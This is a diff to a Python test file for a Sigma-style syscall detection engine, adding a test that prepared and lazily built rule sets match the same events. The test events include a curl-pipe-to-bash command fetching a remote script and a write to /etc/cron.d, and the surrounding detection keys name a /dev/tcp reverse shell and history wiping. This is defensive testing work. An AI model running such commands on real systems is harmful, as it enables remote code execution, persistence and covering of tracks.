@@ -117,6 +117,21 @@ def test_fixture_style_events_agree_with_brute_force():
     assert any(engine_ids(build_event(s)) for s in specs)
 
 
+def test_prepared_engine_finds_what_a_lazy_one_finds():
+    """`prepare` builds the syscall buckets up front (the live agent); same matches."""
+    ready = SigmaEngine(RESULT.rules)
+    assert ready.prepare({"execve", "openat", "personality"}) == 3
+    assert ready.prepare({"execve"}) == 0
+    for spec in ({"exec": "sh -c 'curl -s http://x/x.sh | bash'", "exepath": "/usr/bin/dash"},
+                 {"write": "/etc/cron.d/evil"},
+                 {"syscall": "personality", "args": {"persona": 0x40000}}):
+        ev = build_event(spec)
+        assert sorted(r.rule_id for r in ready.candidates(ev)) == sorted(
+            r.rule_id for r in ENGINE.candidates(ev))
+        assert [d.rule_id for d in ready.on_event(ev)] == [d.rule_id for d in ENGINE.on_event(ev)]
+    assert ready.on_event(build_event({"write": "/etc/cron.d/evil"}))
+
+
 @pytest.mark.parametrize("keys,rank", [
     ({"bash -i >& /dev/tcp/"}, 1),
     ({"history -c", "shred "}, 1),
